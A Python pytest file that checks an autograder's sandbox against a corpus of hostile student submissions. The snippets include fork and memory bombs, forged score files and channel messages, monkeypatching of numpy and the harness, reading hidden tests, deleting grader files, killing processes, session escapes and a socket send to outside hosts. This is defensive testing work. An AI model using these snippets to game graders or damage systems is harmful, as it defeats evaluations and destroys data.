"""The adversarial corpus: submissions that attack the grader, each with its right score.

Every entry is a student module (the correct stand-in module plus an attack) or a raw
notebook. The test checks the score, that the student gets a clear message, and that the
grader and other submissions are unaffected: no process of the run outlives it (checked by
the ``grade_mini`` fixture), the fixtures on disk are unchanged, and a correct submission
graded afterwards still gets full marks. ``full`` entries need root with namespaces (as in CI
and on Gradescope); ``both`` entries also run with ``TT_GRADER_ISOLATION=basic``.
"""

from __future__ import annotations

import hashlib
import json
import os
import string
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from autograder.harness import isolation
from tests.autograder.conftest import (
    CORRECT,
    FIXTURES,
    REF,
    SUITE,
    LoopbackListener,
    needs_full,
    notebook_bytes,
    outputs,
    scores,
)

FULL_MARKS = {"add_vectors": 2, "sum_value": 1, "shape_tuple": 1, "total_of_empty_raises": 1}
SUM_ZERO = {**FULL_MARKS, "sum_value": 0}
ALL_ZERO = dict.fromkeys(FULL_MARKS, 0)


def in_sum(code: str) -> str:
    """The correct module with ``code`` run at the start of ``Vec.sum`` (case sum_value)."""
    body = "".join(f"        {line}\n" for line in code.strip("\n").splitlines())
    return CORRECT.replace("    def sum(self):\n", "    def sum(self):\n" + body, 1)


def at_import(code: str, base: str = CORRECT) -> str:
    """``base`` with ``code`` appended at module level (runs when the module is imported)."""
    return base + "\n\n" + code.strip("\n") + "\n"


WRONG_SUM = CORRECT.replace("return float(self.data.sum())", "return float(self.data.mean())")


@dataclass
class Attack:
    """One corpus entry."""

    id: str
    source: str | None = None
    raw: bytes | None = None
    files: dict[str, bytes] | None = None
    expect: dict[str, float] = field(default_factory=dict)
    says: tuple[str, ...] = ()          # substrings of the student-facing text
    says_any: tuple[str, ...] = ()      # at least one of these is in it
    never: tuple[str, ...] = ()         # substrings that must not appear anywhere
    mode: str = "both"                  # "both" or "full"


LEAK_MARKERS = ("Stand-in hidden suite", "standard_normal(4)", "REFERENCE SOLUTION", "__nd__")

CORPUS = [
    Attack("infinite_loop_in_a_case", in_sum("while True:\n    pass"), expect=SUM_ZERO,
           says=("Timed out", "infinite loop")),
    Attack("infinite_loop_at_import", at_import("while True:\n    pass"), expect=ALL_ZERO,
           says=("took longer than",)),
    Attack("memory_bomb_one_allocation", in_sum("x = bytearray(8 * 1024 ** 3)"),
           expect=SUM_ZERO, says=("MemoryError",)),
    # bytes(n) is calloc'd: the address space grows 50 MB a step (what the limit counts)
    # without writing the pages, so the limit, not the CPU limit, stops it on a busy machine
    # too (bytearray(n) writes every page: under load that took over the case's 2 CPU-s)
    Attack("memory_bomb_gradual", in_sum(
        "hog = []\nwhile True:\n    hog.append(bytes(50 * 1024 ** 2))"),
        expect=SUM_ZERO, says=("MemoryError",)),
    Attack("fork_bomb", in_sum(
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
        "        pass"), expect=SUM_ZERO, says=("Timed out",), mode="full"),
    Attack("sys_exit_in_a_case", in_sum("import sys\nsys.exit(0)"), expect=SUM_ZERO,
           says=("sys.exit",)),
    Attack("os_exit_in_a_case", in_sum("import os\nos._exit(0)"), expect=SUM_ZERO,
           says=("Crashed", "os._exit")),
    Attack("os_exit_at_import", at_import("import os\nos._exit(0)"), expect=ALL_ZERO,
           says=("while your module was being imported",)),
    Attack("sys_exit_at_import", at_import("import sys\nsys.exit(3)"), expect=ALL_ZERO,
           says=("sys.exit",)),
    Attack("fake_results_files_then_exit", at_import(
        "import json, os\n"
        "fake = json.dumps({'score': 1000, 'tests': []})\n"
        "for p in ['$OUT', 'results.json', os.path.join(os.path.dirname('$OUT'), 'r.json')]:\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(p) or '.', exist_ok=True)\n"
        "        open(p, 'w').write(fake)\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(0)"), expect=ALL_ZERO, says=("imported",)),
    Attack("writes_forged_results_to_inherited_fds", at_import(
        "import os\n"
        "line = b'{\"n\": \"guess\", \"seq\": 99, \"type\": \"result\", '\n"
        "line += b'\"item\": \"case:sum_value\", \"data\": 1.0}\\n'\n"
        "for fd in range(0, 64):\n"
        "    try:\n"
        "        os.write(fd, line * 3)\n"
        "    except OSError:\n"
        "        pass", WRONG_SUM), expect=SUM_ZERO),
    Attack("forges_messages_with_the_real_channel", at_import(
        "import gc\n"
        "chan = [o for o in gc.get_objects() if type(o).__name__ == '_Channel']\n"
        "def forge():\n"
        "    for c in chan:\n"
        "        c.send('result', item='case:sum_value', data=0.5)\n"
        "        c.send('result', item='case:add_vectors', data=[1.0, 2.0])\n"
        "forge()\n"
        "_orig = Vec.sum\n"
        "def _sum(self):\n"
        "    forge()\n"
        "    return 0.5\n"
        "Vec.sum = _sum", WRONG_SUM),
        expect={**FULL_MARKS, "sum_value": 0, "add_vectors": 0}, says=("tampering",)),
    Attack("reads_and_prints_hidden_files", at_import(
        "import os\n"
        "for p in ['$SUITE', '$REF/mini.py', '$REF/later.py', '$GOLDENS']:\n"
        "    try:\n"
        "        print(open(p).read())\n"
        "    except OSError as e:\n"
        "        print('blocked', type(e).__name__)\n"
        "for d in ['$SUITEDIR', '$REF', '$AGROOT']:\n"
        "    try:\n"
        "        print(os.listdir(d))\n"
        "    except OSError as e:\n"
        "        print('blocked', type(e).__name__)"), expect=FULL_MARKS,
        never=LEAK_MARKERS, mode="full"),
    Attack("prints_hidden_test_source_from_the_stack", in_sum(
        "import inspect, traceback\n"
        "for f in inspect.stack():\n"
        "    print(f.filename, f.code_context)\n"
        "traceback.print_stack()\n"
        "raise RuntimeError(repr([f.code_context for f in inspect.stack()]))"),
        expect=SUM_ZERO, never=LEAK_MARKERS, says=("RuntimeError",), mode="full"),
    Attack("monkeypatches_numpy_comparisons", at_import(
        "import numpy as np\n"
        "np.allclose = lambda *a, **k: True\n"
        "np.isclose = lambda *a, **k: True\n"
        "np.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None", WRONG_SUM), expect=SUM_ZERO),
    Attack("monkeypatches_builtins", at_import(
        "import builtins\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.len = lambda x: 0\n"
        "builtins.float = lambda *a: 1.0", WRONG_SUM), expect={}, says=()),
    Attack("monkeypatches_the_harness", at_import(
        "import gc, types\n"
        "for o in gc.get_objects():\n"
        "    if isinstance(o, types.ModuleType) and o.__name__.startswith('autograder'):\n"
        "        if hasattr(o, 'compare'):\n"
        "            o.compare = lambda *a, **k: (True, '')\n"
        "        if hasattr(o, 'run_case'):\n"
        "            o.run_case = lambda case, tt: 0.5\n"
        "    if isinstance(o, dict) and 'run_case' in o and 'compare' in o:\n"
        "        o['compare'] = lambda *a, **k: (True, '')", WRONG_SUM), expect=SUM_ZERO),
    Attack("imports_the_reference_statically", "from tinytorch_ref.mini import *\n",
           expect=ALL_ZERO, says=("imports tinytorch_ref",)),
    Attack("imports_the_reference_dynamically", at_import(
        "import importlib\nVec = importlib.import_module('tinytorch' + '_ref').Vec"),
        expect=ALL_ZERO, says=("not allowed",)),
    Attack("loads_the_reference_file_by_path", at_import(
        "import importlib.util\n"
        "spec = importlib.util.spec_from_file_location('m', '$REF/mini.py')\n"
        "m = importlib.util.module_from_spec(spec)\n"
        "spec.loader.exec_module(m)\n"
        "Vec, total = m.Vec, m.total"), expect=ALL_ZERO, says=("could not be imported",),
        mode="full"),
    Attack("swaps_in_foreign_implementations", at_import(
        "import types\n"
        "ns = {}\n"
        "exec(compile('class Vec:\\n    pass', 'elsewhere.py', 'exec'), ns)\n"
        "Vec.sum = ns['Vec'].__dict__.get('sum', Vec.sum)\n"
        "def _f(xs):\n    return sum(xs)\n"
        "total = types.FunctionType(compile('def total(xs):\\n    return sum(xs)',\n"
        "    'elsewhere.py', 'exec').co_consts[0], globals(), 'total')"),
        expect=ALL_ZERO, says=("does not run code from your module",)),
    Attack("imports_torch", at_import("import torch"), expect=ALL_ZERO,
           says=("imports torch",)),
    Attack("eq_always_true_objects", at_import(
        "class Liar:\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = object.__hash__\n"
        "class LyingFloat(float):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "Vec.numpy = lambda self: Liar()\n"
        "_s = Vec.sum\n"
        "Vec.sum = lambda self: LyingFloat(-1.0)"),
        expect={**FULL_MARKS, "add_vectors": 0, "sum_value": 0}, says=("not plain data",)),
    Attack("ndarray_subclass_with_lying_eq", at_import(
        "import numpy as np\n"
        "class Arr(np.ndarray):\n"
        "    def __eq__(self, other):\n"
        "        return np.ones(self.shape, dtype=bool)\n"
        "Vec.numpy = lambda self: np.zeros(4, dtype=np.float32).view(Arr)"),
        expect={**FULL_MARKS, "add_vectors": 0}, says=("values are off",)),
    Attack("huge_output", at_import(
        "import os\n"
        "print('x' * 10_000_000)\n"
        "os.write(1, b'y' * 10_000_000)\n"
        "_s = Vec.sum\n"
        "def _sum(self):\n"
        "    print('z' * 10_000_000)\n"
        "    return _s(self)\n"
        "Vec.sum = _sum"), expect=FULL_MARKS, says=("truncated",)),
    Attack("ignores_signals_then_loops", at_import(
        "import signal\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM,\n"
        "          signal.SIGUSR1, signal.SIGXCPU):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "def _spin(self):\n"
        "    while True:\n"
        "        pass\n"
        "Vec.sum = _spin"), expect=SUM_ZERO, says=("Timed out",)),
    Attack("escapes_the_session", in_sum(
        "import os, subprocess, time\n"
        "subprocess.Popen(['sleep', '$SLEEP'], start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(1.5)\n"
        "        open('$MARKER', 'w').write('escaped')\n"
        "    os._exit(0)"), expect=FULL_MARKS),
    Attack("network_access", in_sum(
        "import socket\n"
        "for host in ('127.0.0.1', '1.1.1.1'):\n"
        "    try:\n"
        "        s = socket.create_connection((host, $PORT), timeout=0.5)\n"
        "        s.sendall(b'leak')\n"
        "        print('connected', host)\n"
        "    except OSError as e:\n"
        "        print('no network', type(e).__name__)"), expect=FULL_MARKS),
    Attack("non_utf8_notebook", raw=b"\xff\xfe\x00" + notebook_bytes(CORRECT),
           expect=ALL_ZERO, says=("not UTF-8",)),
    Attack("corrupt_notebook_json", raw=notebook_bytes(CORRECT)[:-40], expect=ALL_ZERO,
           says=("not valid notebook JSON",)),
    Attack("empty_notebook_file", raw=b"", expect=ALL_ZERO, says=("is empty",)),
    Attack("notebook_without_export_cells", raw=notebook_bytes(CORRECT, export=False),
           expect=ALL_ZERO, says=("#| export",)),
    Attack("syntax_error", "def broken(:\n    pass\n", expect=ALL_ZERO, says=("line",)),
    Attack("wrong_file_name", files={"my_mini_final.ipynb": notebook_bytes(CORRECT)},
           expect=FULL_MARKS, says=("expected a file named 01_mini.ipynb",)),
    Attack("several_wrongly_named_notebooks", files={
        "a.ipynb": notebook_bytes(CORRECT), "b.ipynb": notebook_bytes(CORRECT)},
        expect=ALL_ZERO, says=("none is named 01_mini.ipynb",)),
    Attack("deletes_files", at_import(
        "import os, shutil\n"
        "for p in ['$REF', '$SUITEDIR', '$GOLDENS', '$CANARY', os.path.dirname(__file__),\n"
        "          '$AGROOT']:\n"
        "    shutil.rmtree(p, ignore_errors=True)\n"
        "    try:\n"
        "        os.remove(p)\n"
        "    except OSError:\n"
        "        pass"), expect=FULL_MARKS, mode="full"),
    Attack("kills_other_processes", at_import(
        "import os, signal\n"
        "for pid in ($GRADER_PID, -1):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass"), expect=FULL_MARKS, mode="full"),
    Attack("recursion_bomb", in_sum("def r(n):\n    return r(n + 1)\nr(0)"),
           expect=SUM_ZERO, says=("RecursionError",)),
    Attack("fills_the_disk", in_sum(
        "with open('big.bin', 'wb') as f:\n"
        "    for _ in range(200):\n"
        "        f.write(b'0' * 1024 * 1024)"), expect=SUM_ZERO,
        says_any=("File too large", "No space left on device")),
    Attack("reads_stdin", in_sum("input()"), expect=SUM_ZERO, says=("EOFError",)),
    # a process name that is not UTF-8 (the parent reads /proc/<pid>/stat of the whole tree)
    Attack("names_its_processes_in_invalid_utf8", in_sum(
        "import ctypes, subprocess, sys\n"
        "ctypes.CDLL(None).prctl(15, b'\\xff\\xfe\\xfd', 0, 0, 0)\n"
        "subprocess.Popen([sys.executable, '-c', 'import ctypes, time; "
        "ctypes.CDLL(None).prctl(15, bytes([255, 254]), 0, 0, 0); time.sleep(60)'])"),
        expect=FULL_MARKS),
]


def _fixture_digest() -> str:
    h = hashlib.sha256()
    for p in sorted(FIXTURES.rglob("*")):
        if p.is_file() and "__pycache__" not in p.parts:
            h.update(p.as_posix().encode() + p.read_bytes())
    return h.hexdigest()


@pytest.fixture(scope="module")
def untouched_fixtures():
    before = _fixture_digest()
    yield
    assert _fixture_digest() == before, "a submission changed the grader's files"


def _sleepers(tag: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if tag.encode() in cmd:
                found.append(int(entry))
    return found


def _params() -> list[Any]:
    out = []
    for a in CORPUS:
        marks = [needs_full] if a.mode == "full" else []
        out.append(pytest.param(a, "full", id=f"{a.id}-full", marks=marks))
        if a.mode == "both" and a.id in BASIC_TOO:
            out.append(pytest.param(a, "basic", id=f"{a.id}-basic"))
    return out


BASIC_TOO = {"infinite_loop_in_a_case", "os_exit_in_a_case", "sys_exit_in_a_case",
             "huge_output", "escapes_the_session", "network_access", "eq_always_true_objects",
             "fake_results_files_then_exit", "imports_the_reference_dynamically",
             "memory_bomb_one_allocation", "ignores_signals_then_loops"}


@pytest.mark.parametrize(("attack", "level"), _params())
def test_corpus(attack: Attack, level: str, grade_mini, goldens, tmp_path, monkeypatch,
                untouched_fixtures):
    monkeypatch.setenv("TT_GRADER_ISOLATION", level)
    refused = isolation.plan().refuse
    listener = LoopbackListener()
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(tmp_path, 0o755)
    os.chmod(shared, 0o777)
    canary = tmp_path / "canary.txt"
    canary.write_text("keep me")
    # stands for the grading machine's /autograder (never the host's own)
    agroot = tmp_path / "autograder"
    (agroot / "source").mkdir(parents=True)
    (agroot / "source" / "keep.txt").write_text("keep me")
    marker = shared / "escaped.txt"
    sleep_tag = f"{61 + (os.getpid() % 1000) / 1000 + time.time() % 1:.6f}"
    subs = {"OUT": str(tmp_path / "results-will-go-here.json"), "SUITE": str(SUITE),
            "SUITEDIR": str(SUITE.parent), "REF": str(REF), "GOLDENS": str(goldens),
            "MARKER": str(marker), "PORT": str(listener.port), "SLEEP": sleep_tag,
            "CANARY": str(canary), "AGROOT": str(agroot), "GRADER_PID": str(os.getpid())}
    source = string.Template(attack.source).safe_substitute(subs) if attack.source else None
    try:
        res = grade_mini(source, raw=attack.raw, files=attack.files)
    finally:
        time.sleep(0.05)
        listener.close()
    text = json.dumps(res)
    student_text = res["output"] + "\n".join(outputs(res).values())
    if refused:
        # no namespaces and an interpreter other users cannot run: nothing runs as root
        assert res["score"] == 0 and "would run as root" in res["extra_data"]["grader_error"]
        assert listener.connections == 0 and canary.read_text() == "keep me"
        assert (agroot / "source" / "keep.txt").read_text() == "keep me"
        assert not marker.exists()
        return

    got = scores(res)
    for case, pts in attack.expect.items():
        assert got[case] == pts, f"{case}: {got[case]} != {pts}\n{outputs(res)[case]}"
    if attack.id == "monkeypatches_builtins":
        assert got["sum_value"] == 0 and res["score"] <= 4
    for s in attack.says:
        assert s in student_text, f"missing {s!r} in feedback:\n{student_text[:3000]}"
    if attack.says_any:
        assert any(s in student_text for s in attack.says_any), student_text[:3000]
    for s in attack.never:
        assert s not in text, f"leaked {s!r}"
    assert len(text) < 400_000, "results.json must stay small"
    assert res["score"] <= sum(FULL_MARKS.values())

    # the grader and the machine are unaffected
    assert listener.connections == 0, "the sandbox reached the network"
    assert canary.read_text() == "keep me"
    assert (agroot / "source" / "keep.txt").read_text() == "keep me"
    if attack.id == "escapes_the_session":
        time.sleep(2.0)
        assert not marker.exists(), "a process escaped the session and outlived grading"
        assert _sleepers(sleep_tag) == [], "a new-session child outlived grading"


@needs_full
def test_a_correct_submission_after_the_corpus_still_gets_full_marks(grade_mini,
                                                                    untouched_fixtures):
    res = grade_mini(CORRECT)
    assert res["score"] == 5 and all(t["status"] == "passed" for t in res["tests"])


def test_corpus_is_large_enough():
    assert len(CORPUS) >= 20
    assert len({a.id for a in CORPUS}) == len(CORPUS)
